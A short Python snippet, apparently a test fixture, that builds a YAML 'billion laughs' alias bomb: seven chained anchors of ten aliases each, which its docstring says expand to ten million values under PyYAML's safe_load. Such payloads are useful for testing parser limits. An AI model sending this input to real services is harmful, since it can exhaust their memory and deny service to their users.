"""A YAML "billion laughs": 256 bytes that PyYAML's `safe_load` expands to 10**7 values."""

ALIAS_BOMB = (
    "a: &a ["
    + ",".join("x" * 10)
    + "]\n"
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n"
        for i in range(6)
    )
)
